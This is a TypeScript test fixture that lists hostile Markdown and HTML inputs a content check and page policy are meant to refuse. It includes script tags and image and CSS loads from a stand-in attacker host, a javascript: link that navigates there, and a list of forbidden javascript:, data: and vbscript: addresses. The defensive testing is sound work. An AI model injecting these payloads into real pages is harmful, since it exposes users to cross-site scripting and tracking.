/** What a hostile contributor would put in a text. The content check must refuse it; had it got through, the policy of the page must stop it. */

/** Where the attacker listens; a test replaces it by a server of its own. */
export const attacker = 'https://attacker.example/';

/** Attacks in the words of an entry, by name: Markdown, as an editor may write. */
export const attacks: Readonly<Record<string, string>> = {
  'a script': `<script src="${attacker}script.js"></script><script>window.attacked = true</script>`,
  'a picture from another site': `![](${attacker}pixel.png)`,
  'a style that loads from another site': `<p style="background: url(${attacker}style.png)">tekst</p>`,
  'a link that runs script': `[lees meer](javascript:window.attacked=true;location.assign('${attacker}link'))`,
};

/** Addresses that no field of an entry may hold. */
export const hostileAddresses = [
  'javascript:window.attacked=true',
  ' javascript:window.attacked=true',
  'data:text/html,<script>window.attacked=true</script>',
  'vbscript:attack',
  '//attacker.example/',
];
